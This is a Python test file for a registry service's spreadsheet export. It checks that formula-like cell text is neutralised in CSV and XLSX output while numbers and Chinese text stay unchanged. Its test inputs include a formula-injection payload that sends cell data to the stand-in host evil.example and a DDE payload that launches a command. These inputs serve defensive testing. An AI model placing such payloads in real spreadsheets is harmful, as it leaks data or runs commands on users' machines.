"""Typed text that a spreadsheet would run as a formula is neutralised; numbers and Chinese are not touched."""
from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from registry.services.spreadsheet_cells import append_xlsx_row, csv_cell, csv_rows

LINK = '=HYPERLINK("http://evil.example/?d="&A1, "点击查看")'


@pytest.mark.parametrize("text", [LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "="])
def test_formula_like_text_gets_an_apostrophe_in_csv(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.5", "+3", "-0.001", "1e-3", "-4E+2", "浦东新区", "宝钢=钢铁", "", -7, 3.5, None,
                                   "2017-310115-0001"])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert csv_cell(value) == value


def test_csv_rows_treats_every_cell():
    assert list(csv_rows([["=1", -1, "-1"], ["名称", "@x"]])) == [["'=1", -1, "-1"], ["名称", "'@x"]]


def test_xlsx_keeps_formula_like_text_as_text_and_numbers_as_numbers():
    book = Workbook()
    append_xlsx_row(book.active, [LINK, -5, "-5", "@SUM(1)", "浦东新区"])
    buffer = io.BytesIO()
    book.save(buffer)
    sheet_xml = zipfile.ZipFile(io.BytesIO(buffer.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    cells = load_workbook(io.BytesIO(buffer.getvalue())).active[1]
    assert [(c.value, c.data_type) for c in cells] == [(LINK, "s"), (-5, "n"), ("-5", "s"), ("@SUM(1)", "s"),
                                                       ("浦东新区", "s")]
    assert cells[0].quotePrefix and not cells[4].quotePrefix
